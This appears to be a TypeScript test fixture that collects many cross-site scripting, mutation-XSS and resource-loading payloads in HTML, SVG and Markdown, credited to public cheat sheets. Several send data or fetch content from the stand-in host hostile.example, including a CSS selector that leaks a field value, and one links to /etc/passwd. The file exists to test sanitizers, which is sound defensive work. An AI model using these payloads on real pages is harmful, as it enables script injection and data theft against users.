// Texts that try to run a script, to send data or to leave the page. Everything that renders untrusted HTML, SVG or Markdown
// is tested against all of them. A script that runs calls `hostile()`; URLs that are fetched or navigated to are on
// hostile.example. The texts are our own; the sources describe the technique of each.

export interface HostileMarkup {
  readonly name: string;
  readonly source: string;
  readonly markup: string;
}

/** OWASP, XSS Filter Evasion Cheat Sheet. */
const OWASP = 'OWASP XSS Filter Evasion Cheat Sheet';
/** Mario Heiderich and others, HTML5 Security Cheatsheet, html5sec.org. */
const HTML5SEC = 'HTML5 Security Cheatsheet (html5sec.org)';
/** PortSwigger, Cross-site scripting cheat sheet. */
const PORTSWIGGER = 'PortSwigger XSS cheat sheet';
/** Heiderich, Schwenk, Frosch, Magazinius, Yang: mXSS Attacks, CCS 2013; and the mutations that sanitizers were later found to miss. */
const MUTATION = 'mXSS Attacks (CCS 2013) and its successors';
const HTML = 'WHATWG HTML Standard';
const SVG = 'SVG 2';
const CSS = 'CSS Values and Units, CSS Cascading';

type Row = readonly [name: string, source: string, markup: string];

const rows = (list: readonly Row[]): readonly HostileMarkup[] => list.map(([name, source, markup]) => ({ name, source, markup }));

/** HTML, a whole page or a part. */
export const hostileHtml: readonly HostileMarkup[] = rows([
  // Scripts
  ['script', OWASP, '<script>hostile()</script>'],
  ['script in uppercase', OWASP, '<SCRIPT>hostile()</SCRIPT>'],
  ['script from another site', OWASP, '<script src="https://hostile.example/a.js"></script>'],
  ['script from another site without scheme', OWASP, '<script src=//hostile.example/a.js></script>'],
  ['script with a slash instead of a space', OWASP, '<script/x>hostile()</script/x>'],
  ['script with > in an attribute', OWASP, '<script a=">">hostile()</script>'],
  ['script without an end tag', OWASP, '<script>hostile()//'],
  ['script nested in a script', OWASP, '<scr<script>ipt>hostile()</scr</script>ipt>'],
  ['script nested for filters that remove once', OWASP, '<<script>hostile();//<</script>'],
  ['module script', HTML, '<script type="module">hostile()</script>'],
  [
    'script of an import map',
    HTML,
    '<script type="importmap">{"imports":{"a":"https://hostile.example/a.js"}}</script><script type="module">import "a"</script>',
  ],
  ['script in noscript', HTML, '<noscript><p title="</noscript><img src=x onerror=hostile()>"></noscript>'],
  ['script in a template', HTML, '<template><script>hostile()</script></template>'],
  ['script in a declarative shadow root', HTML, '<div><template shadowrootmode="open"><img src="x" onerror="hostile()"></template></div>'],

  // Event handlers
  ['handler of an image', OWASP, '<img src="x" onerror="hostile()">'],
  ['handler without quotes', OWASP, '<img src=x onerror=hostile()>'],
  ['handler in mixed case', OWASP, '<IMG SRC=x oNeRrOr=hostile()>'],
  ['handler after a slash', OWASP, '<img/src="x"/onerror=hostile()>'],
  ['handler after a line feed', OWASP, '<img\nsrc=x\nonerror\n=\nhostile()>'],
  ['handler after a form feed', OWASP, '<img\fsrc=x\fonerror=hostile()>'],
  ['handler in entities', OWASP, '<img src=x onerror="&#104;ostile&lpar;&rpar;">'],
  ['handler in entities without semicolons', OWASP, '<img src=x onerror=&#0000104ostile&#40&#41>'],
  ['handler after grave accents', OWASP, '<img src=`x` onerror=hostile()>'],
  ['handler after mismatched quotes', OWASP, '<img """><img src=x onerror=hostile()>">'],
  ['handler of the body', OWASP, '<body onload=hostile()>'],
  ['handler of pageshow', PORTSWIGGER, '<body onpageshow=hostile()>'],
  ['handler of automatic focus', PORTSWIGGER, '<input autofocus onfocus=hostile()>'],
  ['handler of automatic focus on an unknown element', PORTSWIGGER, '<x id=x tabindex=1 onfocus=hostile() autofocus></x>'],
  ['handler of a details element', HTML5SEC, '<details open ontoggle=hostile()><summary>x</summary></details>'],
  ['handler of a popover', PORTSWIGGER, '<button popovertarget=p>x</button><div popover id=p onbeforetoggle=hostile()>x</div>'],
  ['handler of a video source', HTML5SEC, '<video><source onerror="hostile()"></video>'],
  ['handler of audio', HTML5SEC, '<audio src=x onerror=hostile()>'],
  ['handler of a marquee', HTML5SEC, '<marquee onstart=hostile()>x</marquee>'],
  ['handler of an animation', PORTSWIGGER, '<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart=hostile()>x</p>'],
  ['handler of a transition', PORTSWIGGER, '<p style="transition:color 1s" ontransitionend=hostile()>x</p>'],
  ['handler of a loaded style', PORTSWIGGER, '<style onload=hostile()></style>'],
  ['handler of a pointer', OWASP, '<p onpointerenter=hostile() style="position:fixed;inset:0">x</p>'],
  ['handler of a click', OWASP, '<a href="#" onclick="hostile()">x</a>'],
  ['handler of an unknown event', HTML, '<p onhostile=hostile()>x</p>'],
  ['handler on an unknown element', PORTSWIGGER, '<xss onclick="hostile()">x</xss>'],

  // URLs
  ['script URL', OWASP, '<a href="javascript:hostile()">x</a>'],
  ['script URL in uppercase', OWASP, '<a href="JaVaScRiPt:hostile()">x</a>'],
  ['script URL with a tab', OWASP, '<a href="jav\tascript:hostile()">x</a>'],
  ['script URL with a tab as entity', OWASP, '<a href="jav&#x09;ascript:hostile()">x</a>'],
  ['script URL with named entities', OWASP, '<a href="javascript&colon;hostile&lpar;&rpar;">x</a>'],
  ['script URL with line breaks', OWASP, '<a href="java\nscr\nipt:hostile()">x</a>'],
  ['script URL after control characters', OWASP, '<a href="\u0001\u0002 javascript:hostile()">x</a>'],
  ['script URL after a comment', OWASP, '<a href="javascript://%0ahostile()">x</a>'],
  ['script URL for VBScript', OWASP, '<a href="vbscript:hostile()">x</a>'],
  ['URL with a page in it', OWASP, '<a href="data:text/html,<script>hostile()</script>">x</a>'],
  ['URL with a page in Base64', OWASP, '<a href="data:text/html;base64,PHNjcmlwdD5ob3N0aWxlKCk8L3NjcmlwdD4=">x</a>'],
  ['image with a script URL', OWASP, '<img src="javascript:hostile()">'],
  ['URL of an area', HTML5SEC, '<map name=m><area href="javascript:hostile()" shape=default></map><img usemap=#m src=x>'],
  ['URL sent when a link is followed', HTML, '<a href="#" ping="https://hostile.example/ping">x</a>'],
  ['URL without scheme', OWASP, '<a href="//hostile.example/">x</a>'],

  // Frames and plug-ins
  ['frame with a script URL', OWASP, '<iframe src="javascript:parent.hostile()"></iframe>'],
  ['frame with a page in it', HTML5SEC, '<iframe srcdoc="<script>parent.hostile()</script>"></iframe>'],
  ['frame with entities in it', HTML5SEC, '<iframe srcdoc="&lt;img src=x onerror=parent.hostile()&gt;"></iframe>'],
  ['frame from another site', OWASP, '<iframe src="https://hostile.example/"></iframe>'],
  ['frame with a handler', HTML5SEC, '<iframe onload=hostile()></iframe>'],
  ['frameset', OWASP, '<frameset><frame src="javascript:parent.hostile()"></frameset>'],
  ['object', OWASP, '<object data="javascript:hostile()"></object>'],
  ['object from another site', OWASP, '<object data="https://hostile.example/a.html"></object>'],
  ['embed', OWASP, '<embed src="javascript:hostile()">'],
  ['embed from another site', OWASP, '<embed src="https://hostile.example/a.swf">'],
  ['applet', OWASP, '<applet code="https://hostile.example/a.class"></applet>'],
  ['portal', PORTSWIGGER, '<portal src="https://hostile.example/"></portal>'],

  // Forms
  ['form', HTML5SEC, '<form action="https://hostile.example/"><input name=a value=b><button>x</button></form>'],
  ['form with a script URL', HTML5SEC, '<form action="javascript:hostile()"><button>x</button></form>'],
  ['form that a button redirects', HTML5SEC, '<form id=f></form><button form=f formaction="javascript:hostile()">x</button>'],
  ['form with an image button', HTML5SEC, '<form><input type=image src=x formaction="javascript:hostile()"></form>'],
  ['form names that hide properties', PORTSWIGGER, '<form><input name=attributes><input name=parentNode><img src=x onerror=hostile()></form>'],

  // Elements of the head
  ['refresh', OWASP, '<meta http-equiv="refresh" content="0;url=https://hostile.example/">'],
  ['refresh to a script URL', OWASP, '<meta http-equiv="refresh" content="0;url=javascript:hostile()">'],
  ['refresh to a page in a data URL', OWASP, '<meta http-equiv="refresh" content="0;url=data:text/html,<script>hostile()</script>">'],
  ['base', OWASP, '<base href="https://hostile.example/"><img src="a.png">'],
  ['base with a script URL', OWASP, '<base href="javascript:hostile();//"><a href="#">x</a>'],
  ['own policy', HTML, '<meta http-equiv="Content-Security-Policy" content="img-src https://hostile.example/"><img src="https://hostile.example/a.png">'],
  ['style sheet', OWASP, '<link rel="stylesheet" href="https://hostile.example/a.css">'],
  ['style sheet with a script URL', OWASP, '<link rel="stylesheet" href="javascript:hostile()">'],
  ['preload', HTML, '<link rel="preload" as="image" href="https://hostile.example/a.png">'],
  ['preload of a module', HTML, '<link rel="modulepreload" href="https://hostile.example/a.js">'],
  ['DNS prefetch', HTML, '<link rel="dns-prefetch" href="//hostile.example">'],
  ['manifest', HTML, '<link rel="manifest" href="https://hostile.example/a.json">'],

  // Fetched without a script
  ['image', HTML, '<img src="https://hostile.example/a.png">'],
  ['image in srcset', HTML, '<img srcset="https://hostile.example/a.png 1x" src="">'],
  ['image of a picture element', HTML, '<picture><source srcset="https://hostile.example/a.png"><img src=""></picture>'],
  ['image in lowsrc and dynsrc', HTML5SEC, '<img lowsrc="https://hostile.example/a.png" dynsrc="https://hostile.example/b.png">'],
  ['background image of a table', OWASP, '<table background="https://hostile.example/a.png"><td background="https://hostile.example/b.png">x</table>'],
  ['background image of the body', OWASP, '<body background="https://hostile.example/a.png">'],
  ['image of an input', OWASP, '<input type="image" src="https://hostile.example/a.png">'],
  ['video', HTML, '<video src="https://hostile.example/a.mp4" poster="https://hostile.example/a.png" autoplay></video>'],
  ['audio', HTML, '<audio src="https://hostile.example/a.mp3" autoplay></audio>'],
  ['track', HTML, '<video><track default src="https://hostile.example/a.vtt"></video>'],

  // Styles
  ['style with a URL', CSS, '<p style="background:url(https://hostile.example/a.png)">x</p>'],
  ['style with a URL in escapes', CSS, '<p style="background:\\75\\72\\6c(https://hostile.example/a.png)">x</p>'],
  ['style with an image set', CSS, '<p style="background:image-set(\'https://hostile.example/a.png\' 1x)">x</p>'],
  ['style with a cursor', CSS, '<p style="cursor:url(https://hostile.example/a.cur),auto">x</p>'],
  ['style with a list marker', CSS, '<ul style="list-style:url(https://hostile.example/a.png)"><li>x</ul>'],
  ['style with content', CSS, '<style>p::after{content:url(https://hostile.example/a.png)}</style><p>x</p>'],
  ['style with an import', CSS, '<style>@import "https://hostile.example/a.css";</style>'],
  ['style with a font', CSS, '<style>@font-face{font-family:f;src:url(https://hostile.example/a.woff2)}p{font-family:f}</style><p>x</p>'],
  ['style that reads a field', HTML5SEC, '<style>input[value^="s"]{background:url(https://hostile.example/s)}</style><input value="secret">'],
  ['style with an expression', OWASP, '<p style="width:expression(hostile())">x</p>'],
  ['style with a binding', OWASP, '<p style="-moz-binding:url(https://hostile.example/a.xml#a)">x</p>'],
  ['style that covers the page', OWASP, '<a href="https://hostile.example/" style="position:fixed;inset:0;z-index:9999">x</a>'],

  // Mutations when parsed twice
  ['mutation by MathML and a table', MUTATION, '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hostile()&gt;">'],
  ['mutation by a form', MUTATION, '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hostile()>'],
  ['mutation by SVG and a style', MUTATION, '<svg></p><style><a id="</style><img src=x onerror=hostile()>">'],
  ['mutation by a title', MUTATION, '<svg><title><style><img title="</style><img src=x onerror=hostile()>"></title></svg>'],
  ['mutation by noembed', MUTATION, '<noembed><img title="</noembed><img src=x onerror=hostile()>"></noembed>'],
  ['mutation by xmp', MUTATION, '<xmp><p title="</xmp><img src=x onerror=hostile()>"></xmp>'],
  ['mutation by plaintext', MUTATION, '<plaintext><p title="</plaintext><img src=x onerror=hostile()>">'],
  ['mutation by a textarea', MUTATION, '<textarea><p title="</textarea><img src=x onerror=hostile()>"></textarea>'],
  ['mutation by a select', MUTATION, '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=hostile()>">'],
  [
    'mutation by an annotation',
    MUTATION,
    '<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror=hostile()>"></annotation-xml></math>',
  ],
  ['mutation by foreign content', MUTATION, '<svg><foreignObject><p><style><!--</style><p title="--><img src=x onerror=hostile()>"></foreignObject></svg>'],
  ['mutation by grave accents', MUTATION, '<img alt="``onerror=hostile()" src=x>'],
  ['mutation by a character reference without a semicolon', MUTATION, '<p title="&lt;img src=x onerror=hostile()&gt">x</p>'],
  ['mutation by depth', MUTATION, `${'<div>'.repeat(520)}<style><p title="</style><img src=x onerror=hostile()>">`],

  // Invalid nesting
  ['comment that ends early', OWASP, '<!--><img src=x onerror=hostile()>-->'],
  ['comment that ends with an exclamation mark', HTML, '<!-- --!><img src=x onerror=hostile()>-->'],
  ['comment for old browsers', OWASP, '<!--[if gte IE 4]><script>hostile()</script><![endif]-->'],
  ['CDATA section', OWASP, '<![CDATA[<img src=x onerror=hostile()>]]>'],
  ['instruction', OWASP, '<?xml-stylesheet href="javascript:hostile()"?><img src=x onerror=hostile()>'],
  ['title that is closed', OWASP, '</title><script>hostile()</script>'],
  ['attribute that is closed', OWASP, '"><script>hostile()</script>'],
  ['attribute that is closed with a single quote', OWASP, "'><img src=x onerror=hostile()>"],
  ['unclosed tag', OWASP, '<img src=x onerror=hostile() '],
  ['end tag with attributes', HTML, '</p onclick=hostile()><img src=x onerror=hostile()>'],
  ['link in a link', HTML, '<a href="https://hostile.example/"><a href="javascript:hostile()">x</a></a>'],
  ['content moved out of a table', HTML, '<table><img src=x onerror=hostile()><tr><td></table>'],
  ['null characters', OWASP, '<scr\u0000ipt>hostile()</scr\u0000ipt><img \u0000src=x \u0000onerror=hostile()>'],
  ['ids that hide properties', PORTSWIGGER, '<a id=hostileConfig><a id=hostileConfig name=url href="https://hostile.example/">x</a>'],
  [
    'all in one',
    OWASP,
    'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=hostile() )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=hostile()//>\\x3e',
  ],
]);

const svg = (inside: string, attributes = ''): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10"${attributes}>${inside}</svg>`;

/** SVG documents. All are well-formed XML unless their name says otherwise. */
export const hostileSvg: readonly HostileMarkup[] = rows([
  ['svg script', SVG, svg('<script>hostile()</script>')],
  ['svg script with its language', SVG, svg('<script type="text/ecmascript"><![CDATA[hostile()]]></script>')],
  ['svg script from another site', SVG, svg('<script href="https://hostile.example/a.js"/>')],
  ['svg script from another site, with xlink:href', SVG, svg('<script xlink:href="https://hostile.example/a.js"/>')],
  ['svg script in a URL', HTML5SEC, svg('<script href="data:text/javascript,hostile()"/>')],
  ['svg handler', HTML5SEC, svg('<rect width="10" height="10"/>', ' onload="hostile()"')],
  ['svg handler of a shape', SVG, svg('<rect width="10" height="10" onclick="hostile()" onfocusin="hostile()" tabindex="0"/>')],
  ['svg handler of an image', SVG, svg('<image href="https://hostile.example/x" onerror="hostile()"/>')],
  ['svg handler of an animation', HTML5SEC, svg('<animate attributeName="x" dur="1s" onbegin="hostile()"/>')],
  ['svg link with a script URL', SVG, svg('<a href="javascript:hostile()"><text y="9">x</text></a>')],
  ['svg link with a script URL, with xlink:href', SVG, svg('<a xlink:href="javascript:hostile()"><text y="9">x</text></a>')],
  ['svg link animated to a script URL', HTML5SEC, svg('<a><animate attributeName="href" values="javascript:hostile()"/><text y="9">x</text></a>')],
  ['svg link set to a script URL', HTML5SEC, svg('<a><set attributeName="href" to="javascript:hostile()"/><text y="9">x</text></a>')],
  ['svg link set to a script URL, with xlink:href', HTML5SEC, svg('<a><set attributeName="xlink:href" to="javascript:hostile()"/><text y="9">x</text></a>')],
  ['svg handler that is set', HTML5SEC, svg('<set attributeName="onmouseover" to="hostile()"/>')],
  [
    'svg foreign object',
    HTML5SEC,
    svg('<foreignObject width="10" height="10"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="hostile()"/></body></foreignObject>'),
  ],
  [
    'svg foreign frame',
    HTML5SEC,
    svg('<foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:parent.hostile()"/></foreignObject>'),
  ],
  ['svg foreign script', HTML5SEC, svg('<foreignObject><script xmlns="http://www.w3.org/1999/xhtml">hostile()</script></foreignObject>')],
  [
    'svg foreign refresh',
    HTML5SEC,
    svg('<foreignObject><meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=https://hostile.example/"/></foreignObject>'),
  ],
  [
    'svg use of a page in a URL',
    HTML5SEC,
    svg("<use href=\"data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='x' onerror='hostile()'/&gt;&lt;/svg&gt;#x\"/>"),
  ],
  ['svg use from another site', SVG, svg('<use href="https://hostile.example/a.svg#x"/>')],
  ['svg image from another site', SVG, svg('<image href="https://hostile.example/a.png" width="10" height="10"/>')],
  ['svg image from another site, with xlink:href', SVG, svg('<image xlink:href="https://hostile.example/a.png" width="10" height="10"/>')],
  [
    'svg filter from another site',
    SVG,
    svg('<filter id="f"><feImage href="https://hostile.example/a.png"/></filter><rect width="10" height="10" filter="url(#f)"/>'),
  ],
  [
    'svg paint from another site',
    SVG,
    svg('<rect width="10" height="10" fill="url(https://hostile.example/a.svg#p)" mask="url(https://hostile.example/b.svg#m)"/>'),
  ],
  ['svg style with an import', CSS, svg('<style>@import url(https://hostile.example/a.css);</style>')],
  ['svg style with a URL', CSS, svg('<rect width="10" height="10" style="filter:url(https://hostile.example/a.svg#f)"/>')],
  [
    'svg style with a font',
    CSS,
    svg('<style>@font-face{font-family:f;src:url(https://hostile.example/a.woff2)}text{font-family:f}</style><text y="9">x</text>'),
  ],
  ['svg style sheet before the root', SVG, `<?xml-stylesheet href="https://hostile.example/a.css" type="text/css"?>${svg('')}`],
  ['svg handler by an entity', HTML5SEC, `<!DOCTYPE svg [<!ENTITY h "hostile()">]>${svg('', ' onload="&h;"')}`],
  ['svg entity from another site', 'XML 1.0, section 4.2.2', `<!DOCTYPE svg [<!ENTITY x SYSTEM "https://hostile.example/a">]>${svg('<text y="9">&x;</text>')}`],
  ['svg document type from another site', 'XML 1.0, section 4.2.2', `<!DOCTYPE svg SYSTEM "https://hostile.example/a.dtd">${svg('')}`],
  ['svg handler for DOM events', 'SVG Tiny 1.2', svg('<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">hostile()</handler>')],
  ['svg that is not XML', HTML5SEC, '<svg/onload=hostile()>'],
  ['svg that is closed early', MUTATION, '<svg><style></svg><img src=x onerror=hostile()></style></svg>'],
  ['XHTML page instead of svg', HTML5SEC, '<html xmlns="http://www.w3.org/1999/xhtml"><script>hostile()</script></html>'],
]);

/** Markdown whose own syntax creates the URLs and attributes. */
export const hostileMarkdown: readonly HostileMarkup[] = rows([
  ['link with a script URL', OWASP, '[x](javascript:hostile())'],
  ['link with a script URL in mixed case', OWASP, '[x](JaVaScRiPt:hostile())'],
  ['link with a script URL in angle brackets', 'CommonMark 0.31, section 6.3', '[x](<javascript:hostile()>)'],
  ['link with a script URL after a control character', OWASP, '[x](\u0001javascript:hostile())'],
  ['link with a script URL after a space', OWASP, '[x]( javascript:hostile() "title")'],
  ['link with a script URL in entities', 'CommonMark 0.31, section 2.5', '[x](java&#115;cript:hostile())'],
  ['link with a script URL with a colon as a named entity', 'CommonMark 0.31, section 2.5', '[x](javascript&colon;hostile())'],
  ['link with a script URL in hex entities', 'CommonMark 0.31, section 2.5', '[x](&#x6A;avascript:hostile())'],
  ['link with a script URL with a backslash', 'CommonMark 0.31, section 2.4', '[x](java\\script:hostile())'],
  ['link with a script URL with an escaped colon', 'CommonMark 0.31, section 2.4', '[x](javascript\\:hostile())'],
  ['link with a script URL with a percent-encoded line feed', OWASP, '[x](java%0ascript:hostile())'],
  ['link with a script URL with a tab', OWASP, '[x](java&Tab;script:hostile())'],
  ['link with a script URL with a line break', OWASP, '[x](java&NewLine;script:hostile())'],
  ['link for VBScript', OWASP, '[x](vbscript:hostile())'],
  ['link with a page in it', OWASP, '[x](data:text/html;base64,PHNjcmlwdD5ob3N0aWxlKCk8L3NjcmlwdD4=)'],
  ['link to a file', HTML, '[x](file:///etc/passwd)'],
  ['link to a blob', HTML, '[x](blob:https://hostile.example/1)'],
  ['link by reference', 'CommonMark 0.31, section 6.3', '[x][y]\n\n[y]: javascript:hostile()'],
  ['link by a preceding reference', 'CommonMark 0.31, section 4.7', '[x]: javascript:hostile()\n\n[x]'],
  ['autolink', 'CommonMark 0.31, section 6.5', '<javascript:hostile()>'],
  ['autolink in uppercase', 'CommonMark 0.31, section 6.5', '<JAVASCRIPT:hostile()>'],
  ['autolink with a page in it', 'CommonMark 0.31, section 6.5', '<data:text/html,hostile>'],
  ['link with a handler in its title', OWASP, '[x](https://example.com "\\" onmouseover=\\"hostile()")'],
  ['link with a handler in its URL', OWASP, '[x](" onmouseover="hostile())'],
  ['extended autolink with a quote', 'GitHub Flavored Markdown, section 6.9', 'https://example.com/"onmouseover="hostile()'],
  ['extended autolink with an element', 'GitHub Flavored Markdown, section 6.9', 'www.example.com/<script>hostile()</script>'],
  ['Markdown image with a script URL', OWASP, '![x](javascript:hostile())'],
  ['image with a page in it', OWASP, '![x](data:text/html,<script>hostile()</script>)'],
  ['image with an SVG in it', OWASP, '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Imhvc3RpbGUoKSIgeG1sbnM9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIi8+)'],
  ['image with a handler in its text', OWASP, '![" onerror="hostile()](x)'],
  ['image with a handler in its title', OWASP, '![x](x "\\" onerror=\\"hostile()")'],
  ['image with a handler in entities', OWASP, '![x](x&quot;onerror=&quot;hostile())'],
  ['image in a link', 'CommonMark 0.31, section 6.4', '[![x](javascript:hostile())](javascript:hostile())'],
  ['link in a link', 'CommonMark 0.31, section 6.3', '[a [b](javascript:hostile()) c](javascript:hostile())'],
  ['lists and quotes around a link', 'CommonMark 0.31, section 5', '> - 1. [x](javascript:hostile())\n>   <svg/onload=hostile()>'],
  ['fence with a handler in its language', 'CommonMark 0.31, section 4.5', '```"onmouseover="hostile()\nx\n```'],
  ['fence with an element in its language', 'CommonMark 0.31, section 4.5', '```<img/src=x/onerror=hostile()>\nx\n```'],
  ['fence with an element in entities', 'CommonMark 0.31, section 4.5', '```&lt;img/src=x/onerror=hostile()&gt;\nx\n```'],
  ['code', 'CommonMark 0.31, section 6.1', '`<img src=x onerror=hostile()>`'],
  ['heading', 'CommonMark 0.31, section 4.2', '# <script>hostile()</script>'],
  ['table', 'GitHub Flavored Markdown, section 4.10', '| <img src=x onerror=hostile()> |\n| - |\n| [x](javascript:hostile()) |'],
  ['task', 'GitHub Flavored Markdown, section 5.3', '- [ ] <img src=x onerror=hostile()>'],
  ['footnote with an element as its name', 'GitHub, footnotes', 'x[^<img src=x onerror=hostile()>]\n\n[^<img src=x onerror=hostile()>]: y'],
  ['footnote with a handler as its name', 'GitHub, footnotes', 'x[^"onmouseover="hostile()]\n\n[^"onmouseover="hostile()]: y'],
  ['HTML in entities', 'CommonMark 0.31, section 2.5', '&lt;script&gt;hostile()&lt;/script&gt; &#60;img src=x onerror=hostile()&#62;'],
  ['HTML block with an unclosed tag', 'CommonMark 0.31, section 4.6', '<script\nhostile()'],
  ['HTML across paragraphs', 'CommonMark 0.31, section 4.6', '<div\n\nonclick="hostile()"\n\n><img src=x onerror=hostile()>'],
  ['null characters', 'CommonMark 0.31, section 2.3', '\u0000<scr\u0000ipt>hostile()</script>'],
]);

/** Positions in a Markdown text where HTML may be, or seem to be. */
const PLACES: readonly ((html: string) => string)[] = [
  (html) => html,
  (html) => `a ${html} b`,
  (html) => `- ${html}`,
  (html) => `> ${html}`,
  (html) => `| a |\n| - |\n| ${html} |`,
  (html) => `[${html}](https://example.com)`,
  (html) => `[a](https://example.com "${html}")`,
  (html) => `![${html}](a.png)`,
  (html) => `a[^1]\n\n[^1]: ${html}`,
  (html) => `\`\`\`${html}\n${html}\n\`\`\``,
];

/** Everything hostile in Markdown: its own techniques, and HTML and SVG in every position. */
export const allHostileMarkdown: readonly HostileMarkup[] = [
  ...hostileMarkdown,
  ...[...hostileHtml, ...hostileSvg].flatMap(({ name, source, markup }) =>
    PLACES.map((place, index) => ({ name: `${name}, place ${index + 1}`, source, markup: place(markup) })),
  ),
];
